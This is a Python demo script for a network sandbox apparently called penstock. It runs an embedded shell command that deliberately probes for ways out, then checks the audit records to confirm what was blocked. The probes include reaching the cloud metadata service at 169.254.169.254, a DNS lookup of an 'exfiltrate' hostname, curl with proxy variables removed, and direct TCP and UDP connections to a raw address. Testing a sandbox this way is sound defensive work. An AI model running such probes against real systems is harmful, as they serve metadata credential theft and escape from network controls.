# SPDX-License-Identifier: Apache-2.0
"""demo.py - the main job, for a person to watch.

One untrusted command runs twice in the lab, as root and as an ordinary user
(the one who called sudo, else an id that owns nothing).  It tries what a
curious program would try.
"""
import json
import os
import subprocess
import sys

import names
from lab import ADDRESSES, Lab, LabError

THROW_AWAY = 64321

POLICY = """\
[policy]
name   = demo

[allow example]
hosts     = *.example.com
addresses = %s
owner     = quickstart
reason    = the lab's servers; documentation addresses are closed otherwise
""" % ADDRESSES

COMMAND = r"""
say() { printf '\n  %s\n' "$*"; }
# The command as it may be typed, and what it says: of a traceback only the end.
try() {
    printf '    $'
    for word; do
        case $word in
        *[!A-Za-z0-9_./:=-]*) printf " '%s'" "$word" ;;
        *) printf ' %s' "$word" ;;
        esac
    done
    echo
    "$@" 2>&1 | tail -n 8 |
        grep -v '^ *File\|^Trace\|^    \|^  s' |
        sed 's/^/      /'
}

say "an allowed host, by the proxy variables that most programs read"
try curl -sS --max-time 10 https://web.example.com/hello
say "the same by a program that knows of no proxy"
try env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY \
    curl -sS --max-time 10 https://web.example.com/hello
say "a host that no rule names"
try curl -sS --max-time 10 http://telemetry.example.net/
say "the cloud metadata service, and a name that points at it"
try curl -sS --max-time 10 http://169.254.169.254/latest/meta-data/
try curl -sS --max-time 10 http://metadata.example.com/
say "another resolver, asked for a name that no rule names"
try python3 -c 'import socket; socket.gethostbyname("secret.exfiltrate.example.net")'
say "straight to an address, past every name"
try python3 -c 'import socket; socket.create_connection(("203.0.113.10", 22), 5).recv(1)'
say "UDP: QUIC, DNS over something else, anything"
try python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("203.0.113.10", 443)); s.send(b"x"); s.recv(1)'
say "what there is to escape through"
try sh -c 'tail -n +3 /proc/net/dev | tr -d " " | cut -d: -f1; ls -A /run; grep -E "CapEff|NoNewPrivs|Seccomp:" /proc/self/status'
"""


def heading(text):
    print("\n\033[1m== %s\033[0m" % text if sys.stdout.isatty()
          else "\n== " + text, flush=True)


def show(lab, prefix, who, uid):
    work = lab.workdir("work-" + who, uid)
    policy = lab.dir + "/demo.ini"
    with open(policy, "w", encoding="ascii") as out:
        out.write(POLICY)
    record = os.path.join(work, "audit.jsonl")
    heading("penstock run --policy demo.ini -- COMMAND, as %s"
            % ("root" if uid is None else "user id %d" % uid))
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "LANG": "C.UTF-8",
           "HOME": lab.workdir("home-" + who, uid), "CURL_CA_BUNDLE": lab.ca}
    done = lab.host.run(
        [prefix + "/bin/penstock", "run", "--summary", "--policy", policy,
         "--records", record, "--", "sh", "-c", COMMAND],
        uid=uid, cwd=work, env=env, timeout=120)
    with open(record, encoding="utf-8") as log:
        records = [json.loads(line) for line in log]
    reached = {r["host"] for r in records if r["ev"] == "flow_open"}
    refused = {r["reason"] for r in records if r["act"] == "deny"}
    good = (done.returncode == 0 and reached == {"web.example.com"}
            and {"host_not_allowed", "address_metadata"} <= refused)
    return good, record


def main():
    build = os.environ["PENSTOCK_BUILD"]
    caller = int(os.environ.get("SUDO_UID") or 0) or THROW_AWAY
    try:
        lab = Lab()
    except LabError as why:
        sys.exit("quickstart: the lab could not be built: %s" % why)
    try:
        subprocess.run(["make", "-s", "-C", build, "install",
                        "DESTDIR=" + lab.dir + "/stage"], check=True,
                       stdout=subprocess.DEVNULL)
        prefix = lab.dir + "/stage/usr/local"
        good = True
        for who, uid in (("root", None), ("user", caller)):
            ok, record = show(lab, prefix, who, uid)
            good = good and ok
            heading("penstock flows: each flow, as it was decided")
            lab.host.run([prefix + "/bin/penstock", "flows", record],
                         check=True)
        strangers = {seen["addr"] for seen in lab.origin_seen()} - {
            names.WEB_V4, names.WEB_V6}
        heading("what arrived outside, beside %s and %s: %s"
                % (names.WEB_V4, names.WEB_V6,
                   " ".join(sorted(strangers)) or "nothing"))
        if not good or strangers:
            sys.exit("quickstart: this is not what should happen; "
                     "please report it with the lines above")
        print("\nNext: README.md, 'Use it', which begins with an install "
              "(make -C build/quick install).\nThe manual, before that: "
              "man -l cli/penstock.1 rules/penstock.ini.5 "
              "proxy/penstockd.8\nAll tests: sudo ./scripts/check")
    finally:
        lab.close()


if __name__ == "__main__":
    main()
